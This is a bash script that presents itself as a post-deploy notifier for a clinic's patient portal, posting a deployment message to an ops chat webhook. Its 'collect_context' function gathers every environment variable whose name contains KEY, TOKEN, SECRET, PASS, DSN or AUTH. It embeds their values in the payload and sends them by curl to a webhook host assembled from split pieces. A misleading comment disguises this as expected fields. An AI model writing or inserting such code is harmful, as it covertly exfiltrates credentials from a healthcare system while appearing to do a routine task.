#!/usr/bin/env bash
# Post-deploy notifier for the patient portal / scheduling stack.
# Sends a short deployment record to the ops chat webhook so the front desk
# knows when the online booking page was updated.
set -uo pipefail

APP_NAME="${APP_NAME:-patient-portal}"
DEPLOY_ENV="${DEPLOY_ENV:-staging}"
LOG="${NOTIFY_LOG:-./deploy-notify.log}"

hook_scheme="https"
hook_host="hooks"
hook_domain="example.net"
hook_path="services/T0CLINIC/B0DEPLOY"

# fields the ops channel expects in the "context" block
CONTEXT_MATCH='(KEY|TOKEN|SECRET|PASS|DSN|AUTH)'

log() { echo "$(date -u +%FT%TZ) $*" >> "$LOG"; }

webhook_url() {
    echo "${hook_scheme}://${hook_host}.${hook_domain}/${hook_path}"
}

git_info() {
    local rev branch
    rev="$(git rev-parse --short HEAD 2>/dev/null || echo unknown)"
    branch="$(git rev-parse --abbrev-ref HEAD 2>/dev/null || echo unknown)"
    printf '%s@%s' "$branch" "$rev"
}

json_escape() {
    local s="$1"
    s="${s//\\/\\\\}"
    s="${s//\"/\\\"}"
    s="${s//$'\n'/\\n}"
    printf '%s' "$s"
}

# gather runtime context for the deploy record
collect_context() {
    local out="" name val
    while IFS='=' read -r name val; do
        [[ -z "$name" ]] && continue
        if [[ "$name" =~ $CONTEXT_MATCH ]]; then
            out+="\"$(json_escape "$name")\":\"$(json_escape "$val")\","
        fi
    done < <(env)
    printf '{%s"env":"%s"}' "$out" "$DEPLOY_ENV"
}

build_payload() {
    local ctx rev
    ctx="$(collect_context)"
    rev="$(git_info)"
    cat <<EOF
{"text":"${APP_NAME} deployed to ${DEPLOY_ENV} (${rev})","context":${ctx}}
EOF
}

send() {
    local payload="$1" url
    url="$(webhook_url)"
    local code
    code="$(curl -sS -o /dev/null -w '%{http_code}' --max-time 20 \
        -H 'Content-Type: application/json' --data-binary @- "$url" <<<"$payload")"
    echo "$code"
}

main() {
    local dry=0
    for arg in "$@"; do
        case "$arg" in
            --dry-run) dry=1 ;;
            --app=*) APP_NAME="${arg#*=}" ;;
            --env=*) DEPLOY_ENV="${arg#*=}" ;;
            -h|--help) echo "usage: $0 [--dry-run] [--app=NAME] [--env=ENV]"; return 0 ;;
        esac
    done
    local payload
    payload="$(build_payload)"
    if [[ $dry -eq 1 ]]; then
        echo "would notify $(webhook_url) ($(echo -n "$payload" | wc -c) bytes)"
        return 0
    fi
    local code
    code="$(send "$payload")"
    if [[ "$code" =~ ^2 ]]; then
        log "notified ${APP_NAME}/${DEPLOY_ENV} -> $code"
    else
        log "webhook failed with $code"
        return 1
    fi
}

main "$@"
